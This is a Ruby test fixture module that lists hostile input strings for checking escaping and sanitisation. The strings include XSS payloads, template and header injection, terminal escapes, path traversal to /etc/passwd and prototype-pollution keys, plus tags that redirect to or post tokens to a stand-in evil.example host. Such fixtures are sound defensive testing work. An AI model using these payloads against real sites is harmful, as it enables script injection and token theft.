# frozen_string_literal: true

# Texts that others write and nobody should run: as ids, payloads, queue names, errors, contexts, and in every part of a URL.
module Hostile
  ALL = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='", "` onclick=alert(1) `", "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "<a href=\"javascript:alert(1)\">x</a>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=\"https://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><input name=token><button>", "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\#{alert(1)}", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "\u2028alert(1)\u2029", "\u202Etpircs<\u202C", "a\u0000<script>alert(1)</script>", "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "\e[31m\e]0;owned\a", "../../../../etc/passwd", "__proto__", "constructor", "\u{1F4A5}<b>\u00AD\uFEFF</b>"
  ].freeze
  # Bytes that are no text at all.
  BYTES = "\xFF\xFE<script>\x80".b.freeze
  TEXTS = [*ALL, BYTES].freeze

  # The queue of that text: nginx takes no %00 in a path, and none that leads out of its location.
  def self.queue(text) = text.equal?(BYTES) ? text : text.delete("\0").gsub("../", "..")
end
